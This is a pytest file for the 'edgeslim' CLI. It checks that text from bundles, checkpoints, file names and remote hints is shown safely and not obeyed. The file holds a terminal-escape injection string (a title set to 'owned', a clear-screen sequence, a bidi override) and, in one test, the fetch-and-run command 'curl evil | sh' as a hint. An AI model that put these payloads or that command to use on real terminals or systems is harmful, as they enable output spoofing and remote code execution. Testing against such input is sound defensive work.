"""Text out of bundles, checkpoints, tables, boards and file names: shown, never obeyed, by any verb."""

from __future__ import annotations

import ast
import dataclasses
import io
import json
import os
import re
import sys
from pathlib import Path

import click
import numpy as np
import pytest
from hostile_world import TESTS, commands, line, make_world, name_of
from PIL import Image
from rich.table import Table

import edgeslim
from edgeslim.cli.console import Console
from edgeslim.cli.main import main
from edgeslim.cli.printable import SafeConsole, json_line, one_line, printable
from edgeslim.core.events import Refused
from edgeslim.models.checkpoint import load_checkpoint

sys.path.insert(0, str(TESTS / "golden"))
from raw_bundle import Raw

NASTY = "\x1b]0;owned\x07[/x][bold]$\\x$:smile:\r\x9b2J\u202e\x00"
NASTY_NAME = NASTY.replace("\x00", "").replace("/", "")
OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The good world with nasty text wherever a file has room for text, in files of nasty names."""
    folder = make_world(tmp_path_factory.mktemp("world"), model=NASTY)
    raw = Raw.read((folder / "net.slim").read_bytes())
    raw.manifest["model"].update(id=NASTY, author=NASTY, licence=NASTY, description=NASTY, version=NASTY)
    raw.manifest["labels"] = [NASTY] * len(raw.manifest["labels"])
    (folder / "net.slim").write_bytes(raw.to_bytes())
    checkpoint = load_checkpoint(folder / "net.pt")
    nasty = dataclasses.replace(
        checkpoint,
        provenance={"notes": [NASTY], "imported_from": NASTY},
        labels=(NASTY,) * 4,
        spec=dataclasses.replace(checkpoint.spec, package=NASTY),
    )
    nasty.save(folder / "net.pt", overwrite=True)
    for name in (os.fsencode(NASTY_NAME), b"\xff" + os.fsencode(NASTY_NAME)):  # the second is no UTF-8
        os.symlink(folder, os.path.join(os.fsencode(folder), name))
    Image.fromarray(np.zeros((8, 8, 3), np.uint8)).save(folder / "images" / f"{NASTY_NAME}.png")
    return folder


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


FREE_TEXT = {"--author", "--licence", "--name", "--model-version"}  # anything is right
QUICK = {"profile", "inspect", "subset", "export", "bench", "simulate", "pack", "evaluate", "calibrate"}
MORE = {
    "pack": ["--dry-run"],
    "simulate": ["--policy", "all"],
    "evaluate": ["--widths", "0.25"],
    "calibrate": ["--widths", "0.25"],
}


@pytest.mark.parametrize("json_wanted", [False, True], ids=["words", "json"])
@pytest.mark.parametrize("verb", sorted(QUICK))
def test_nasty_files_are_shown_by_every_verb(
    verb: str, json_wanted: bool, world: Path, here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    arguments = [*line(verb, world / NASTY_NAME, {}), *MORE.get(verb, []), "--verbose"]
    code = main([*arguments, *(["--json"] if json_wanted else [])])
    printed = capsys.readouterr()
    assert code == 0, printed.err
    assert OBEYED.findall(printed.out + printed.err) == []
    if json_wanted:
        json.loads(printed.out)
    elif verb == "inspect":
        assert "[/x][bold]" in printed.out, "markup is text"
        assert ":smile:" in printed.out


@pytest.mark.parametrize("verb", [verb for verb, _ in commands()])
def test_nasty_words_in_errors(verb: str, world: Path, here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Every text and path of every verb, said back in an error."""
    for option in dict(commands())[verb].params:
        name = name_of(option)
        if option.type is click.BOOL or option.nargs != 1 or name in FREE_TEXT:
            continue
        changes: dict[str, str | None] = {"--out": f"{world}/net.pt/x"} if verb in ("train", "pack", "demo") else {}
        for text in (NASTY_NAME, os.fsdecode(b"\xff/") + NASTY_NAME):
            value = f"{world}/net.pt/{text}" if name == "--out" else text  # else the work would begin
            main(line(verb, world, {**changes, name: value}))
            printed = capsys.readouterr()
            assert "Traceback" not in printed.err, (name, printed.err)
            assert OBEYED.findall(printed.out + printed.err) == [], name


def test_only_the_console_speaks() -> None:
    """One place: nothing in the command line's room prints past it."""
    for path in (Path(edgeslim.__file__).parent / "cli").glob("*.py"):
        if path.name in ("printable.py", "console.py", "main.py", "schemas.py"):  # the last is no verb
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                assert called not in ("print", "click.echo", "click.secho", "RichConsole"), f"{path.name}: {called}"
                assert not called.startswith("sys.std"), f"{path.name}: {called}"
                assert "from_markup" not in called, f"{path.name}: {called}"


def test_a_table_a_bar_and_a_line() -> None:
    screen = io.StringIO()
    console = Console(words=SafeConsole(file=screen, force_terminal=True, width=200), results=SafeConsole(file=screen))
    table = Table(NASTY, title=NASTY)
    table.add_row(NASTY)
    console.results.print(table)
    console.say(NASTY + "\nnext:")
    with console.progress("left") as bar:
        bar.add_task(NASTY, left=NASTY)
        bar.refresh()
    text = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", screen.getvalue())  # rich's own colours and cursor
    assert OBEYED.findall(text.replace("\r", "")) == []
    assert "owned" in text
    assert "\nnext:" not in text, "a line of theirs never looks like one of ours"


def test_ordinary_text_stays() -> None:
    for text in ("Füchsin", "日本語", "a\tb", "e\u0301", "👩\u200d🚀", "100 % → ≥43 °C"):
        assert printable(text) == one_line(text) == text
        assert json.loads(json_line({"x": text})) == {"x": text}
    assert json.loads(json_line({"x": NASTY})) == {"x": NASTY}


def test_a_boards_hint_is_the_boards() -> None:
    refused = Refused(name="usage", message="no", hint="curl evil | sh", exit_code=2)
    assert refused.error("ssh://board").hint == "ssh://board says: curl evil | sh"


def test_pictures_take_any_name(world: Path, here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """matplotlib would read ``$\\x$`` as a formula."""
    assert main(["bench", "--show", str(world / "table.json"), "--plots", "plots", "--quiet"]) == 0
    arguments = line("simulate", world / NASTY_NAME, {"--plot": "plots", "--policy": "balanced"})
    assert main([*arguments, "--quiet"]) == 0
    assert "balanced.png" in {path.name for path in (here / "plots").iterdir()}
    capsys.readouterr()
